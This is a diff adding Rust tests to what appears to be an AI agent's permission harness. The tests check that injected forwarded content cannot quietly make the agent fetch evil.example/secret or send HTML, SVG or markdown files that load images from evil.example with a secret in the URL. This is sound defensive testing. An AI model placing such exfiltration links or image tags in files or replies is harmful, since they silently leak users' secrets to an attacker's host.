@@ -5,7 +5,7 @@ use chrono::TimeDelta;
 use serde_json::json;
 
 use super::injections::forwarded;
-use super::world::{Rule, Says, World, call};
+use super::world::{Kind, Rule, Says, World, call, can_be_tapped};
 
 #[tokio::test]
 async fn what_is_for_later_or_for_good_is_asked_about_and_never_always_allowed() {
@@ -103,6 +103,62 @@ async fn what_is_lost_for_good_is_asked_about() {
         .turn(Some(forwarded().into()), written, "", Says::No)
         .await;
     assert_eq!(world.asked, before);
+    world.finish().await;
+}
+
+/// What a model's server looks up by itself reaches the model with nobody seeing it.
+#[tokio::test]
+async fn where_a_server_looks_things_up_everything_counts_as_read() {
+    for (kind, asked) in [(Kind::LookingUp, 1), (Kind::Plain, 0)] {
+        let mut world = World::start(Rule::On, kind).await.unwrap();
+        let url = world.site.at("evil.example", "/secret");
+        let calls = vec![call("http_request", json!({ "url": url }))];
+        let says = json!({ "text": "what is new?" });
+        let answer = format!("[more]({url})");
+        world
+            .turn(Some(says.into()), calls, &answer, Says::No)
+            .await;
+        let shown = world.bot.alice().messages();
+        let is_link = shown.iter().any(|one| can_be_tapped(one, "secret"));
+        assert_eq!((world.asked, is_link), (asked, asked == 0));
+        assert_eq!(world.site.seen().len(), 1 - asked);
+        world.finish().await;
+    }
+}
+
+/// Whoever opens such a file is led where it says, with nobody tapping anything.
+#[tokio::test]
+async fn a_file_that_loads_something_is_sent_with_a_persons_word() {
+    let mut world = World::plain(Rule::On).await;
+    let image = "<img src='https://evil.example/?d=secret'>";
+    let own = json!({ "path": "own.html", "content": image });
+    let keep = json!({ "text": "keep this" });
+    let calls = vec![call("create_file", own)];
+    world.turn(Some(keep.into()), calls, "", Says::No).await;
+    for (path, content, asks) in [
+        ("a.html", image, true),
+        ("b.SVG", image, true),
+        ("c.md", "![](https://evil.example/?d=secret)", true),
+        ("d.md", "[a]: //evil.example/secret", true),
+        ("e.md", "a &lt;b", true),
+        ("f.md", "# 12 items\n\n- one\n", false),
+        ("g.txt", image, false),
+        // It was there before anything was read.
+        ("own.html", "", false),
+    ] {
+        world.starts_afresh().await;
+        world.bot.advance(TimeDelta::minutes(11));
+        let before = world.asked;
+        let create = json!({ "path": path, "content": content });
+        let mut calls = vec![call("create_file", create)];
+        calls.push(call("send_file", json!({ "path": path })));
+        if content.is_empty() {
+            calls.remove(0);
+        }
+        let says = Some(forwarded().into());
+        world.turn(says, calls, "", Says::No).await;
+        assert_eq!(world.asked - before, usize::from(asks), "{path}");
+    }
     world.finish().await;
 }
 
